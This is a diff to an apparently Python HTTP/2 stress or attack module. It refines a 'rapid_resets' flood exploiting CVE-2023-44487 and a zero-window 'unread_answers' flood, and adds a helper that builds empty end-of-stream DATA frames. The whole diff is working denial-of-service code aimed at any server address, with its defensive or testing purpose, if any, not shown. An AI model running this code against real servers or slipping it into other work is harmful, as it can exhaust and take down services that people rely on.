@@ -88,12 +88,13 @@ def _lines(address: str, count: int = _CONNECTIONS) -> Iterator[list[Line]]:
 
 
 def rapid_resets(address: str, rounds: int) -> None:
-    """Calls that are begun and given up at once (CVE-2023-44487)."""
+    """Calls that are begun, or asked whole, and given up at once (CVE-2023-44487)."""
     with _lines(address) as lines:
-        for line in lines:
+        for number, line in enumerate(lines):
             line.greet()
             for stream in range(1, 2 * 100 * rounds, 2):
-                if not line.say(line.call(stream), RstStreamFrame(stream, error_code=8)):
+                asked = [_empty(stream)] if number % 2 else []
+                if not line.say(line.call(stream), *asked, RstStreamFrame(stream, error_code=8)):
                     break
 
 
@@ -188,10 +189,15 @@ def unread_answers(address: str, rounds: int) -> None:
             window = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
             line.say(PREFACE, window)
             for stream in range(1, 2 * 50 * rounds, 2):
-                empty = DataFrame(stream, struct.pack(">BI", 0, 0))
-                empty.flags.add(_END_STREAM)
-                if not line.say(line.call(stream), empty):
+                if not line.say(line.call(stream), _empty(stream)):
                     break
+
+
+def _empty(stream: int) -> DataFrame:
+    """A message of no bytes, the last of its stream."""
+    frame = DataFrame(stream, struct.pack(">BI", 0, 0))
+    frame.flags.add(_END_STREAM)
+    return frame
 
 
 def _cut(block: bytes) -> list[bytes]:
